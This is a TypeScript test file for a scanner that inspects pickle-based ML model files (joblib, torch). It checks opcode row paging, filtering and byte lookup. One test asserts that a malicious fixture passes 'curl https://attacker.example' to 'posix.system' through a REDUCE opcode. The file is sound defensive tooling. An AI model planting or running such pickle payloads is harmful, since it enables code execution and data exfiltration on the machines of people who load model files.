import path from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import type { Answers, Query } from '../../shared/ipc/messages';
import { opcodeByCode } from '../../shared/pickle/opcodes';
import { scanFile } from './scan';
import { View } from './view';

const corpus = (file: string) => path.resolve(import.meta.dirname, '../../e2e/corpus', file);
const open: View[] = [];
afterEach(async () => {
  for (const view of open.splice(0)) await view.close();
});

async function viewOf(file: string) {
  const { report, streams } = await scanFile(corpus(file), { digest: false });
  const view = await View.open(corpus(file), streams);
  open.push(view);
  const ask = <Q extends Query>(query: Q) => view.answer(query, () => false) as Promise<Answers[Q['what']]>;
  return { report, ask };
}

const ATTACK = 'joblib/iris_aws_exfil_arrays.joblib';

describe('a view', () => {
  test('finds the row of a finding, across arrays, and shows what the stack was', async () => {
    const { report, ask } = await viewOf(ATTACK);
    const finding = report.findings.find(({ ruleId }) => ruleId === 'dangerous-call');
    const { row } = await ask({ what: 'rowAt', stream: 0, offset: finding?.byteOffset ?? 0 });
    const rows = await ask({ what: 'rows', stream: 0, from: row, count: 1 });
    expect(opcodeByCode(rows.code[0] as number)?.name).toBe('REDUCE');
    expect(rows.offset[0]).toBe(finding?.byteOffset);
    const step = await ask({ what: 'step', stream: 0, row });
    expect(step.before.stack[0]?.text).toContain('curl https://attacker.example');
    expect(step.before.stack[1]?.text).toBe('posix.system');
    expect(step.after.stack[0]?.text).toContain('posix.system(');
  });

  test.each([
    ATTACK,
    'joblib/sklearn-pipeline-new.joblib',
    'joblib/sklearn-mlp-zlib3-new.joblib',
    'torch/whole-module-old.pt',
  ])('%s: any page of rows is a part of all rows', async (file) => {
    const { ask } = await viewOf(file);
    for (const { id, rows: count } of await ask({ what: 'streams' })) {
      const all = await ask({ what: 'rows', stream: id, from: 0, count: 4096 });
      expect(all.code.length).toBe(Math.min(count, 4096));
      for (const from of [1, 7, count >> 1, count - 1]) {
        const page = await ask({ what: 'rows', stream: id, from, count: 5 });
        expect([...page.offset]).toEqual([...all.offset.slice(from, from + 5)]);
        expect([...page.stackDepth]).toEqual([...all.stackDepth.slice(from, from + 5)]);
        expect([...page.markDepth]).toEqual([...all.markDepth.slice(from, from + 5)]);
      }
      expect(all.stackDepth[0]).toBe(0);
      if (count <= 4096) expect(opcodeByCode(all.code[count - 1] as number)?.name).toBe('STOP');
    }
  });

  test('filters imports, calls and texts, and closes marks', async () => {
    const { report, ask } = await viewOf(ATTACK);
    const imports = await ask({ what: 'filter', stream: 0, filter: { kind: 'imports' }, limit: 100 });
    expect(imports.rows.length).toBe(report.globals.reduce((sum, { imports: count }) => sum + count, 0));
    const found = await ask({
      what: 'filter',
      stream: 0,
      filter: { kind: 'text', text: 'CURL', regex: false },
      limit: 100,
    });
    expect(found.rows.length).toBe(1);
    const broken = await ask({
      what: 'filter',
      stream: 0,
      filter: { kind: 'text', text: '(', regex: true },
      limit: 100,
    });
    expect(broken.rows.length).toBe(0);
    const { rows: marks } = await ask({
      what: 'filter',
      stream: 0,
      filter: { kind: 'text', text: '^MARK', regex: true },
      limit: 1,
    });
    const { row } = await ask({ what: 'closingRow', stream: 0, row: marks[0] as number });
    expect(row).toBeGreaterThan(marks[0] as number);
  });

  test('gives bytes of the file and of what is compressed in it, and finds bytes', async () => {
    const { ask } = await viewOf('joblib/sklearn-mlp-zlib3-new.joblib');
    const outer = await ask({ what: 'bytes', entryPath: [], offset: 0, length: 2 });
    expect(outer.bytes[0]).toBe(0x78);
    const inner = await ask({ what: 'bytes', entryPath: ['zlib'], offset: 0, length: 2 });
    expect([...inner.bytes]).toEqual([0x80, 4]);
    const { offset } = await ask({
      what: 'findBytes',
      entryPath: ['zlib'],
      offset: 0,
      bytes: new TextEncoder().encode('MLPClassifier'),
    });
    expect(offset).toBeGreaterThan(0);
    await expect(ask({ what: 'bytes', entryPath: ['nowhere'], offset: 0, length: 1 })).rejects.toMatchObject({
      error: { code: 'notFound' },
    });
  });
});
